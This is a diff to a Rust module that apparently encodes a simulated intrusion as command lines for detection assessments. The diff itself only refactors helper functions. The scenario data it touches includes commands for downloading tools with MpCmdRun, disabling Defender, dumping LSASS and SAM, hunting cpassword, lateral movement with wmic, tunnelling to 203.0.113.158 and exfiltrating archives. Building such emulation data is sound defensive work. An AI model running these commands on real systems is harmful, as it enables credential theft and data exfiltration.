@@ -4,38 +4,18 @@
 use super::vault;
 use crate::attack::aftermath::{Aftermath, Left};
 use crate::attack::shell::Line;
+use crate::program::POWERSHELL;
 use crate::technique::Technique;
 use crate::truth::Weight;
 
-pub(super) const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
-pub(super) const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 const NET: &str = "C:\\Windows\\System32\\net.exe";
 const NET1: &str = "C:\\Windows\\System32\\net1.exe";
 
 /// Where its tools lie.
 pub(super) const FOLDER: &str = "C:\\Windows\\debug\\WIA\\brother";
 
-/// A line, with what it starts.
-pub(super) const fn line(
-    technique: Technique,
-    weight: Weight,
-    command: &'static str,
-    programs: &'static [(&'static str, &'static str)],
-) -> Line {
-    Line { technique, weight, shell: CMD, command, programs }
-}
-
-/// A line that an assessment must name, with what it starts.
-pub(super) const fn must(
-    technique: Technique,
-    command: &'static str,
-    programs: &'static [(&'static str, &'static str)],
-) -> Line {
-    line(technique, Weight::Must, command, programs)
-}
-
 const fn look(command: &'static str, programs: &'static [(&'static str, &'static str)]) -> Line {
-    line(Technique::Discovery, Weight::Supporting, command, programs)
+    Line::cmd(Technique::Discovery, Weight::Supporting, command, programs)
 }
 
 /// A look around, in the words of a German Windows.
@@ -77,7 +57,7 @@ pub(super) const LOOK_AROUND: [Line; 6] = [
 
 /// How tools are brought: by the scanner's own program, out of a cabinet, out of a project that is compiled.
 pub(super) const BRING: [Line; 5] = [
-    must(
+    Line::must(
         Technique::Download,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd C:\\Windows\\debug\\WIA && \"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -Download¦File -url http://203.0.113.158/b/brs.cab -path C:\\Windows\\debug\\WIA\\brs.cab && popd\"",
         &[(
@@ -85,7 +65,7 @@ pub(super) const BRING: [Line; 5] = [
             "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\"  -Download¦File -url http://203.0.113.158/b/brs.cab -path C:\\Windows\\debug\\WIA\\brs.cab",
         )],
     ),
-    line(
+    Line::cmd(
         Technique::Download,
         Weight::Supporting,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"mkdir C:\\Windows\\debug\\WIA\\brother && expand -F:* C:\\Windows\\debug\\WIA\\brs.cab C:\\Windows\\debug\\WIA\\brother\"",
@@ -94,7 +74,7 @@ pub(super) const BRING: [Line; 5] = [
             "expand  -F:* C:\\Windows\\debug\\WIA\\brs.cab C:\\Windows\\debug\\WIA\\brother",
         )],
     ),
-    must(
+    Line::must(
         Technique::ScriptRun,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe /nologo C:\\Windows\\debug\\WIA\\brother\\status.csproj\"",
         &[(
@@ -102,7 +82,7 @@ pub(super) const BRING: [Line; 5] = [
             "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe  /nologo C:\\Windows\\debug\\WIA\\brother\\status.csproj",
         )],
     ),
-    must(
+    Line::must(
         Technique::DefenceOff,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDef¦initions -All & powershell -NoP Add-Mp¦Preference -Exclusion¦Path C:\\Windows\\debug\\WIA\\brother\"",
         &[
@@ -124,7 +104,7 @@ pub(super) const BRING: [Line; 5] = [
 
 /// How credentials are taken.
 pub(super) const TAKE: [Line; 5] = [
-    must(
+    Line::must(
         Technique::CredentialDump,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\AvDump.exe --pid 648 --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file C:\\Windows\\debug\\WIA\\brother\\st0.tmp\"",
         &[(
@@ -132,7 +112,7 @@ pub(super) const TAKE: [Line; 5] = [
             "C:\\Windows\\debug\\WIA\\brother\\AvDump.exe  --pid 648 --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file C:\\Windows\\debug\\WIA\\brother\\st0.tmp",
         )],
     ),
-    must(
+    Line::must(
         Technique::CredentialDump,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\sqldumper.exe 648 0 0x01¦100 0 C:\\Windows\\debug\\WIA\\brother\"",
         &[(
@@ -140,12 +120,12 @@ pub(super) const TAKE: [Line; 5] = [
             "C:\\Windows\\debug\\WIA\\brother\\sqldumper.exe  648 0 0x01¦100 0 C:\\Windows\\debug\\WIA\\brother",
         )],
     ),
-    must(
+    Line::must(
         Technique::CredentialDump,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"disk¦shadow /s C:\\Windows\\debug\\WIA\\brother\\d.txt && copy W:\\Windows\\System32\\config\\S¦AM C:\\Windows\\debug\\WIA\\brother\\st1.tmp\"",
         &[("C:\\Windows\\System32\\diskshadow.exe", "disk¦shadow  /s C:\\Windows\\debug\\WIA\\brother\\d.txt")],
     ),
-    must(
+    Line::must(
         Technique::CredentialDump,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"findstr /s /i cpass¦word \\\\elb-dc01\\SYSVOL\\elbwerft.example.net\\Policies\\*.xml > C:\\Windows\\debug\\WIA\\brother\\st2.tmp\"",
         &[(
@@ -185,7 +165,7 @@ pub(super) const PROJECT: (&str, &str) = (
 
 /// Steps to the servers beside.
 pub(super) const GO_ON: [Line; 3] = [
-    must(
+    Line::must(
         Technique::DirectoryDump,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\ADExplorer.exe -snap¦shot elb-dc01 C:\\Windows\\debug\\WIA\\brother\\st3.tmp -noconnectprompt /accepteula\"",
         &[(
@@ -193,7 +173,7 @@ pub(super) const GO_ON: [Line; 3] = [
             "C:\\Windows\\debug\\WIA\\brother\\ADExplorer.exe  -snap¦shot elb-dc01 C:\\Windows\\debug\\WIA\\brother\\st3.tmp -noconnectprompt /accepteula",
         )],
     ),
-    must(
+    Line::must(
         Technique::LateralMove,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"wmic /node:elb-fs02 /user:ELBWERFT\\svc_veeam /password:Hafen-2018 process call create \"regsvr32 /s C:\\Windows\\Temp\\BrLogApi.dll\"\"",
         &[(
@@ -201,7 +181,7 @@ pub(super) const GO_ON: [Line; 3] = [
             "wmic  /node:elb-fs02 /user:ELBWERFT\\svc_veeam /password:Hafen-2018 process call create \"regsvr32 /s C:\\Windows\\Temp\\BrLogApi.dll\"",
         )],
     ),
-    must(
+    Line::must(
         Technique::Tunnel,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"start /b C:\\Windows\\debug\\WIA\\brother\\iox.exe proxy -r 203.0.113.158:9443 -k 7b1d4e\"",
         &[(
@@ -213,7 +193,7 @@ pub(super) const GO_ON: [Line; 3] = [
 
 /// How what is to be carried off is packed and sent.
 pub(super) const PACK: [Line; 3] = [
-    must(
+    Line::must(
         Technique::StagedArchive,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\brpjui.exe a -dh -m1 -sl94371840 -v95m -hpWia§41 C:\\Windows\\debug\\WIA\\brother\\prn.001 E:\\Konstruktion\\*.dwg E:\\Konstruktion\\*.pdf\"",
         &[(
@@ -221,12 +201,12 @@ pub(super) const PACK: [Line; 3] = [
             "C:\\Windows\\debug\\WIA\\brother\\brpjui.exe  a -dh -m1 -sl94371840 -v95m -hpWia§41 C:\\Windows\\debug\\WIA\\brother\\prn.001 E:\\Konstruktion\\*.dwg E:\\Konstruktion\\*.pdf",
         )],
     ),
-    must(
+    Line::must(
         Technique::StagedArchive,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"make¦cab /F C:\\Windows\\debug\\WIA\\brother\\l.ddf\"",
         &[("C:\\Windows\\System32\\makecab.exe", "make¦cab  /F C:\\Windows\\debug\\WIA\\brother\\l.ddf")],
     ),
-    must(
+    Line::must(
         Technique::WebExfiltration,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\svchost64.exe copy C:\\Windows\\debug\\WIA\\brother\\ mg:elb --include prn.* --transfers 8 --no-check-certificate --ignore-existing -q\"",
         &[(
